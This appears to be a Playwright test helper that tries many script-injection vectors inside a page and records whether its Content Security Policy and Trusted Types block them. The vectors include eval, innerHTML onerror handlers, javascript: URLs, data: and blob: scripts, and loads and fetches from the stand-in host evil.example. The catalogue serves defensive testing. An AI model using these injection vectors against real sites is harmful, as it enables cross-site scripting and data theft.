import type { Page } from '@playwright/test'

export interface Attack {
  name: string
  refused: boolean
  /** Message of the browser or of the page's policy. */
  how: string
}

/** Tries to run foreign code in every way that a page offers. Each would set `window.stolen`. */
export const attacks = (page: Page): Promise<Attack[]> =>
  page.evaluate(async () => {
    const target = window as unknown as { stolen?: string }
    const code = 'window.stolen = "yes"'
    const foreign = 'https://evil.example/x.js'
    const soon = () => new Promise((resolve) => setTimeout(resolve, 120))
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => violations.push(violatedDirective))
    const put = <K extends keyof HTMLElementTagNameMap>(name: K, set: (element: HTMLElementTagNameMap[K]) => void) => {
      const element = document.createElement(name)
      set(element)
      document.body.append(element)
      return element
    }
    const box = () => put('div', () => undefined)
    const ways: Record<string, () => unknown> = {
      eval: () => window.eval(code),
      // eslint-disable-next-line no-new-func -- what must be refused
      'new Function': () => (new Function(code) as () => void)(),
      'setTimeout with text': () => (setTimeout as unknown as (text: string) => void)(code),
      'setInterval with text': () => (setInterval as unknown as (text: string, ms: number) => void)(code, 10),
      'script with text': () => put('script', (script) => (script.textContent = code)),
      'script with a text node': () => put('script', (script) => script.append(document.createTextNode(code))),
      'script with innerText': () => put('script', (script) => (script.innerText = code)),
      'innerHTML with a handler': () => (box().innerHTML = `<img src="/none.png" onerror='${code}'>`),
      'outerHTML with a handler': () => (box().outerHTML = `<img src="/none.png" onerror='${code}'>`),
      insertAdjacentHTML: () => box().insertAdjacentHTML('beforeend', `<img src="/none.png" onerror='${code}'>`),
      'document.write': () => document.write(`<script>${code}</script>`),
      createContextualFragment: () =>
        document.body.append(document.createRange().createContextualFragment(`<script>${code}</script>`)),
      'DOMParser, then adopted': () =>
        document.body.append(new DOMParser().parseFromString(`<script>${code}</script>`, 'text/html').scripts[0]!),
      'srcdoc of a frame': () =>
        put('iframe', (frame) => (frame.srcdoc = `<script>parent.${code.replace('window.', '')}</script>`)),
      'frame of a javascript: address': () =>
        put('iframe', (frame) => (frame.src = `javascript:parent.${code.replace('window.', '')}`)),
      'javascript: link': () => put('a', (link) => (link.href = `javascript:${code}`)).click(),
      'handler by attribute': () => put('button', (button) => button.setAttribute('onclick', code)).click(),
      'script from elsewhere': () => put('script', (script) => (script.src = foreign)),
      'script from elsewhere by attribute': () => put('script', (script) => script.setAttribute('src', foreign)),
      'script of data:': () => put('script', (script) => (script.src = `data:text/javascript,${code}`)),
      'script of blob:': () =>
        put('script', (script) => (script.src = URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))),
      'script from the uploads': () => put('script', (script) => (script.src = '/uploads/x.js')),
      'script from an answer of the API': () => put('script', (script) => (script.src = '/api/x')),
      'script of no known release': () => put('script', (script) => (script.src = '/remotes/mf-evil/1/x.js')),
      'script by a path that climbs': () => put('script', (script) => (script.src = '/shell/1/../../uploads/x.js')),
      'import from elsewhere': () => import(/* @vite-ignore */ 'https://evil.example/y.js' as string),
      'import of data:': () => import(/* @vite-ignore */ `data:text/javascript,${code}` as string),
      'worker of blob:': () => new Worker(URL.createObjectURL(new Blob([code]))),
      'worker of data:': () => new Worker(`data:text/javascript,${code}`),
      'a policy of one’s own': () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
      'a second default policy': () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('default', { createScript: (text: string) => text }),
      'stylesheet from elsewhere': () =>
        put('link', (link) => {
          link.rel = 'stylesheet'
          link.href = 'https://evil.example/x.css'
        }),
      'inline style element': () => put('style', (style) => (style.textContent = 'body { --stolen: 1 }')),
      'picture from elsewhere': () => put('img', (image) => (image.src = 'https://evil.example/x.png')),
      'call to elsewhere': () => fetch('https://evil.example/x'),
      'frame from elsewhere': () => put('iframe', (frame) => (frame.src = 'https://evil.example/')),
      'another base address': () => put('base', (base) => (base.href = 'https://evil.example/')),
      'plug-in object': () => put('object', (object) => (object.data = 'https://evil.example/x.swf')),
    }
    const results: Attack[] = []
    // Code called directly by the browser driver may use eval; code after a pause runs as the page's own.
    await soon()
    for (const [name, way] of Object.entries(ways)) {
      const before = violations.length
      let thrown = ''
      try {
        await way()
      } catch (error) {
        thrown = (error as Error).name
      }
      await soon()
      const told = violations.slice(before)
      const ran = target.stolen === 'yes' || getComputedStyle(document.body).getPropertyValue('--stolen') === '1'
      // For a script whose text was added as a node, the browser reports only in its console that it does not run.
      const how =
        [thrown, ...new Set(told)].filter(Boolean).join(', ') ||
        (name === 'script with a text node' && !ran ? 'not run' : '')
      results.push({ name, refused: !ran && how !== '', how })
      delete target.stolen
    }
    return results
  })
